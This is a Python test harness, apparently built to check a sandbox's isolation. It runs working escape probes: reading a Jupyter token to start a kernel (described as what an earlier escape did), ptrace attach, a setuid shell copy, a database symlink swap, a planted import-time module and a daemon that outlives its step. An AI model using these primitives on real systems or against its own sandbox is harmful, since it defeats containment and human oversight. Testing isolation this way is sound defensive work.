"""A hostile relay: each INPUT["probes"] entry names an attack; each result says what happened.

A result is "done: ..." when the attack worked, or "refused: ERRNO-NAME ..." when it did not.
"""

import ctypes
import errno
import json
import os
import shutil
import socket
import urllib.request
from pathlib import Path

from dbos import DBOS


def _refused(exc):
    name = errno.errorcode.get(getattr(exc, "errno", None) or 0, type(exc).__name__)
    return f"refused: {name} {exc}"[:200]


def attempt(action):
    try:
        return "done: " + str(action())[:200]
    except Exception as exc:  # every failure is the answer
        return _refused(exc)


def connect(host, port):
    with socket.create_connection((host, port), timeout=3) as sock:
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return sock.recv(64).decode(errors="replace")


def abstract(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect("\0" + name)
        return "connected"


def jupyter(runtime_dir, port):
    """What the escape did: read the server's runtime file for its token, start a kernel."""
    found = [f for f in os.listdir(runtime_dir) if f.startswith("jpserver-")]
    token = json.loads(Path(runtime_dir, found[0]).read_text())["token"] if found else ""
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/api/kernels?token={token}", data=b"{}", method="POST"
    )
    with urllib.request.urlopen(request, timeout=5) as answer:
        return answer.status


def ptrace(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return "attached"


def setuid_shell(execution):
    target = os.path.join(execution, "sh")
    shutil.copy("/bin/sh", target)
    os.chmod(target, 0o4755)
    return oct(os.stat(target).st_mode)


def setxattr(path):
    os.setxattr(path, "user.relay", b"x")
    return "set"


def uid_outside():
    inside, outside, _ = Path("/proc/self/uid_map").read_text().split()[:3]
    return int(outside) + os.getuid() - int(inside)


def swap_database(target):
    """Replace the run's own database by a link to ``target`` (another run's, say)."""
    from agentworks import run_dir

    database = Path(run_dir).parent / ".relay_dbos" / "dbos.sqlite"
    database.unlink()
    database.symlink_to(target)
    return "swapped"


def plant_module(name, marker):
    """Leave ``execution/NAME/__init__.py`` that writes ``marker`` wherever it is imported."""
    from agentworks import run_dir

    package = Path(run_dir) / name
    package.mkdir(exist_ok=True)
    (package / "__init__.py").write_text(f"open({marker!r}, 'w').write('imported')\n")
    return "planted"


def leave_listening(port, name):
    """Leave a TCP and a UDP socket on ``port`` of the sandbox's loopback and an abstract unix
    socket ``name`` listening, held by a daemon of their own that outlives this step."""
    ready_r, ready_w = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            tcp.bind(("127.0.0.1", port))
            tcp.listen(8)
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.bind(("127.0.0.1", port))
            unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            unix.bind("\0" + name)
            unix.listen(8)
            os.write(ready_w, b"listening")
            while True:
                conn, _ = tcp.accept()
                conn.sendall(b"left behind by an earlier attempt")
                conn.close()
        os._exit(0)
    os.close(ready_w)
    said = os.read(ready_r, 64)
    os.close(ready_r)
    return said.decode()


ATTACKS = {
    "read": lambda a: attempt(lambda: Path(a["path"]).read_bytes()[:64]),
    "list": lambda a: attempt(lambda: sorted(os.listdir(a["path"]))),
    "chmod": lambda a: attempt(lambda: os.chmod(a["path"], 0o6777)),
    "utime": lambda a: attempt(lambda: os.utime(a["path"], (0, 0))),
    "setxattr": lambda a: attempt(lambda: setxattr(a["path"])),
    "connect": lambda a: attempt(lambda: connect(a["host"], a["port"])),
    "abstract": lambda a: attempt(lambda: abstract(a["name"])),
    "jupyter": lambda a: attempt(lambda: jupyter(a["runtime_dir"], a["port"])),
    "ptrace": lambda a: attempt(lambda: ptrace(a["pid"])),
    "stop": lambda a: attempt(lambda: os.kill(a["pid"], 19)),
    "setuid": lambda a: attempt(lambda: setuid_shell(a["execution"])),
    "uid": lambda a: f"done: {uid_outside()}",
    "network namespace": lambda a: f"done: {os.readlink('/proc/self/ns/net')}",
    "tcp metrics kept": lambda a: attempt(
        lambda: Path("/proc/sys/net/ipv4/tcp_no_metrics_save").read_text().strip() == "0"
    ),
    "leave listening": lambda a: attempt(lambda: leave_listening(a["port"], a["name"])),
    "swap database": lambda a: attempt(lambda: swap_database(a["path"])),
    "plant module": lambda a: attempt(lambda: plant_module(a["name"], a["marker"])),
}


@DBOS.step()
async def attack(probes):
    return {name: ATTACKS[spec["kind"]](spec) for name, spec in probes.items()}


@DBOS.workflow()
async def run(INPUT):
    return await attack(INPUT["probes"])
